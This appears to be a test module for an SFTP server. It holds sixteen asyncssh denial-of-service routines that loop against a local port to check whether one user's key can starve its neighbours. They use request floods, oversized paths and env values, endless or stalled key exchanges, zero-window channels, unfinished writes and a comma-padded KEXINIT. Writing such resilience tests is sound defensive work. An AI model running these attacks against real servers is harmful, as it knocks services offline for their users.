"""What a key may try against its neighbours: `python -m tests.sftpd.neighbours.attacks NAME PORT USER KEY`, until killed.

Prints a line when the attack is under way. Whoever is thrown out comes again.
"""

import asyncio
import contextlib
import itertools
import os
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Final

import asyncssh
from asyncssh.packet import Boolean, Byte, String, UInt32, UInt64

_MEBIBYTE: Final = 1024 * 1024
_REQUEST, _GLOBAL_REQUEST = 98, 80
_INIT, _OPEN, _CLOSE, _WRITE, _OPENDIR, _READDIR, _STAT = 1, 3, 4, 6, 11, 12, 17
_ANEW: Final = 0x1A
# What an attacker lets pile up on its own side before it waits for the front to take it.
_UNSENT: Final = _MEBIBYTE


@dataclass
class Attacker:
    """One login and what it needs."""

    port: int
    user: str
    key: str
    number: int

    async def connect(self, **options: object) -> asyncssh.SSHClientConnection:
        """Log in."""
        given: dict[str, object] = {
            "username": self.user,
            "client_keys": [self.key],
            "known_hosts": None,
            "config": None,
            "agent_path": None,
            "keepalive_interval": 0,
            **options,
        }
        return await asyncssh.connect("127.0.0.1", self.port, **given)

    def begun(self) -> None:
        """Say that the attack is under way."""
        print("attacking", flush=True)


class Unread(asyncssh.SSHClientSession[bytes]):
    """A channel whose answers nobody looks at."""


async def open_channel(
    connection: asyncssh.SSHClientConnection, window: int = 1 << 30, *, started: bool = True
) -> asyncssh.SSHClientChannel[bytes]:
    """An SFTP channel that grants the front so many bytes of answers."""
    channel, _ = await connection.create_session(
        Unread, subsystem="sftp", encoding=None, window=window, max_pktsize=32768
    )
    if started:
        channel.write(request(_INIT, None, UInt32(3)))
    return channel


def request(kind: int, number: int | None, *parts: bytes) -> bytes:
    """One SFTP packet."""
    body = Byte(kind) + (b"" if number is None else UInt32(number)) + b"".join(parts)
    return UInt32(len(body)) + body


async def sent(connection: asyncssh.SSHClientConnection, *channels: asyncssh.SSHClientChannel[bytes]) -> None:
    """Wait until most of what was written is on its way. Raises ConnectionError where the front has left."""
    while True:
        transport = connection._transport
        if transport is None or connection.is_closed() or any(channel.is_closing() for channel in channels):
            raise ConnectionError
        waiting = transport.get_write_buffer_size()
        if waiting + sum(channel.get_write_buffer_size() for channel in channels) < _UNSENT:
            return
        await asyncio.sleep(0.005)


async def prove_host_keys(attacker: Attacker) -> None:
    """Row 1: one request that names the RSA host key 600 times."""
    connection = await attacker.connect(server_host_key_algs=["rsa-sha2-512"])
    host_key = connection.get_server_host_key()
    assert host_key is not None
    named = String(host_key.public_data) * 600
    nobody = asyncio.get_running_loop().create_future()
    nobody.cancel()
    attacker.begun()
    while True:
        connection.send_packet(_GLOBAL_REQUEST, String("hostkeys-prove-00@openssh.com"), Boolean(True), named)
        connection._global_request_waiters.append(nobody)
        await sent(connection)
        await asyncio.sleep(0.05)


async def prove_host_keys_briefly(attacker: Attacker) -> None:
    """The same in small requests, one key each."""
    connection = await attacker.connect(server_host_key_algs=["rsa-sha2-512"])
    host_key = connection.get_server_host_key()
    assert host_key is not None
    named = String(host_key.public_data)
    attacker.begun()
    while True:
        for _ in range(50):
            connection.send_packet(
                _GLOBAL_REQUEST, String("hostkeys-prove-00@openssh.com"), Boolean(False), named
            )
        await sent(connection)
        await asyncio.sleep(0.001)


async def stat_long_paths(attacker: Attacker, length: int = 4 * _MEBIBYTE) -> None:
    """Row 2: STAT of a path that is no text, and costs where somebody makes one of it."""
    connection = await attacker.connect()
    channel = await open_channel(connection)
    attacker.begun()
    for number in itertools.count():
        channel.write(request(_STAT, number, String(b"\xff" * length)))
        await sent(connection, channel)
        await asyncio.sleep(0)


async def stat_paths_of_33_kb(attacker: Attacker) -> None:
    """Row 2 with as much as a request may hold."""
    await stat_long_paths(attacker, 33 * 1024)


async def set_environment(attacker: Attacker) -> None:
    """Row 3: `env` requests of 30 KB, of which a front could keep each."""
    connection = await attacker.connect()
    channel = await open_channel(connection)
    attacker.begun()
    for number in itertools.count():
        name = b"%d-%d" % (attacker.number, number)
        channel.send_packet(_REQUEST, String("env"), Boolean(False), String(name), String(b"\xff" * 30_000))
        await sent(connection)
        await asyncio.sleep(0)


async def ask_the_unknown(attacker: Attacker) -> None:
    """Channel and connection requests that nobody knows, small and many, each to be answered."""
    connection = await attacker.connect()
    channel = await open_channel(connection)
    nobody = asyncio.get_running_loop().create_future()
    nobody.cancel()
    attacker.begun()
    while True:
        channel._request_waiters += [nobody] * 100
        connection._global_request_waiters += [nobody] * 100
        for _ in range(100):
            channel.send_packet(_REQUEST, String("x11-req"), Boolean(True), bytes(13))
            connection.send_packet(_GLOBAL_REQUEST, String("tcpip-forward"), Boolean(True), bytes(8))
        await sent(connection)
        await asyncio.sleep(0)


async def exchange_keys(attacker: Attacker) -> None:
    """Row 4: key exchanges after the login, one after the other."""
    connection = await attacker.connect(kex_algs=["diffie-hellman-group18-sha512", "curve25519-sha256"])
    attacker.begun()
    while True:
        connection._kexinit_sent = True
        connection._send_kexinit()
        while not connection._kex_complete:
            await sent(connection)
            await asyncio.sleep(0.001)


async def list_without_reading(attacker: Attacker) -> None:
    """Row 6: a channel with a window of 0, and listings that are to wait for it."""
    connection = await attacker.connect()
    channels = [await open_channel(connection, 0) for _ in range(3)]
    attacker.begun()
    for number in itertools.count():
        handle = String(UInt32(number))
        requests = [request(_OPENDIR, 0, String("/"))]
        requests += [request(_READDIR, 0, handle)] * 9
        requests += [request(_CLOSE, 0, handle)]
        for channel in channels:
            channel.write(b"".join(requests))
        await sent(connection, *channels)
        await asyncio.sleep(0)


async def stat_without_reading(attacker: Attacker) -> None:
    """The same with the smallest of answers, of which most find room."""
    connection = await attacker.connect()
    channels = [await open_channel(connection, 0) for _ in range(3)]
    attacker.begun()
    while True:
        for channel in channels:
            channel.write(request(_STAT, 0, String("/")) * 1000)
        await sent(connection, *channels)
        await asyncio.sleep(0)


async def list_much(attacker: Attacker) -> None:
    """Row 7: listings, each left open as long as handles may be."""
    connection = await attacker.connect()
    channel = await open_channel(connection)
    attacker.begun()
    for number in itertools.count():
        channel.write(request(_OPENDIR, number, String("/")))
        if number >= 15:
            channel.write(request(_CLOSE, number, String(UInt32(number - 15))))
        await sent(connection, channel)
        await asyncio.sleep(0.001)


async def ask_much(attacker: Attacker) -> None:
    """Questions without end, each of which asks the database: for names that were never uploaded."""
    connection = await attacker.connect()
    channels = [await open_channel(connection) for _ in range(10)]
    attacker.begun()
    while True:
        for channel in channels:
            channel.write(request(_STAT, 0, String("nothing.csv")) * 100)
        await sent(connection, *channels)
        await asyncio.sleep(0)


async def leave_writes_unfinished(attacker: Attacker) -> None:
    """WRITEs of 4 MB, of each of which the last byte never comes, on all channels; then small pieces on more."""
    connection = await attacker.connect()
    channels = [await open_channel(connection) for _ in range(10)]
    length = 4 * _MEBIBYTE
    for number, channel in enumerate(channels):
        name = String(f"{attacker.number}-{number}.csv")
        channel.write(request(_OPEN, 0, name, UInt32(_ANEW), UInt32(0)))
        whole = request(_WRITE, 0, String(UInt32(0)), UInt64(0), String(bytes(length)))
        channel.write(whole[:-1])
    attacker.begun()
    await asyncio.sleep(1000)


async def send_crumbs_too_early(attacker: Attacker) -> None:
    """Bytes one by one on channels that nobody has asked anything of."""
    connection = await attacker.connect()
    channels = [await _bare_channel(connection) for _ in range(8)]
    attacker.begun()
    while True:
        for channel in channels:
            for _ in range(200):
                channel.send_packet(94, String(b"xy"))
        await sent(connection)
        await asyncio.sleep(0)


async def _bare_channel(connection: asyncssh.SSHClientConnection) -> asyncssh.SSHClientChannel[bytes]:
    channel = asyncssh.SSHClientChannel[bytes](
        connection, asyncio.get_running_loop(), "strict", None, "strict", 1 << 30, 32768
    )
    await channel._open(b"session")
    return channel


async def go_on_during_an_exchange(attacker: Attacker) -> None:
    """A key exchange that is begun and never finished, and requests whose answers have to wait for its end."""
    connection = await attacker.connect()
    channel = await open_channel(connection)
    await asyncio.sleep(0.1)
    connection._kexinit_sent = True
    connection._send_kexinit()
    connection._kex_complete = True
    connection._recv_handler = lambda: False
    attacker.begun()
    while True:
        channel.write(request(_STAT, 0, String("/")) * 1000)
        await sent(connection, channel)
        await asyncio.sleep(0)


async def open_channels(attacker: Attacker) -> None:
    """Channels opened and closed as fast as it goes."""
    connection = await attacker.connect()
    attacker.begun()
    while True:
        channels = await asyncio.gather(*(_bare_channel(connection) for _ in range(8)))
        for channel in channels:
            channel.close()
        await asyncio.gather(*(channel.wait_closed() for channel in channels))


async def begin_with_commas(attacker: Attacker) -> None:
    """Before a login: a KEXINIT whose lists of algorithms hold 200,000 commas."""
    lists = [b"curve25519-sha256", b"ssh-ed25519", *[b"," * 50_000] * 4, b"none", b"none", b"", b""]
    body = b"\x14" + os.urandom(16) + b"".join(String(names) for names in lists) + bytes(5)
    padding = 8 - (5 + len(body)) % 8 + 8
    packet = UInt32(1 + len(body) + padding) + Byte(padding) + body + bytes(padding)
    attacker.begun()
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", attacker.port)
            try:
                writer.write(b"SSH-2.0-Commas\r\n" + packet)
                async with asyncio.timeout(1):
                    await writer.drain()
                    while await reader.read(65536):
                        pass
            except TimeoutError:
                pass
            finally:
                writer.transport.abort()


# The attack by its name, and how many do it at once with one key.
ATTACKS: Final[dict[str, tuple[Callable[[Attacker], Awaitable[None]], int]]] = {
    attack.__name__: (attack, number)
    for attack, number in (
        (prove_host_keys, 1),
        (prove_host_keys_briefly, 8),
        (stat_long_paths, 1),
        (stat_paths_of_33_kb, 8),
        (set_environment, 4),
        (ask_the_unknown, 8),
        (exchange_keys, 8),
        (list_without_reading, 9),
        (stat_without_reading, 9),
        (list_much, 4),
        (ask_much, 9),
        (leave_writes_unfinished, 9),
        (send_crumbs_too_early, 4),
        (go_on_during_an_exchange, 4),
        (open_channels, 8),
        (begin_with_commas, 8),
    )
}


async def repeat(attack: Callable[[Attacker], Awaitable[None]], attacker: Attacker) -> None:
    """Come again whenever the front has had enough."""
    while True:
        # Whatever asyncssh's client makes of a connection that ends in the middle of what it isn't made for.
        with contextlib.suppress(Exception):
            await attack(attacker)
        await asyncio.sleep(0.05)


async def main(name: str, port: int, user: str, key: str) -> None:
    """Attack until killed."""
    attack, count = ATTACKS[name]
    async with asyncio.TaskGroup() as tasks:
        for number in range(count):
            tasks.create_task(repeat(attack, Attacker(port, user, key, number)))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]))
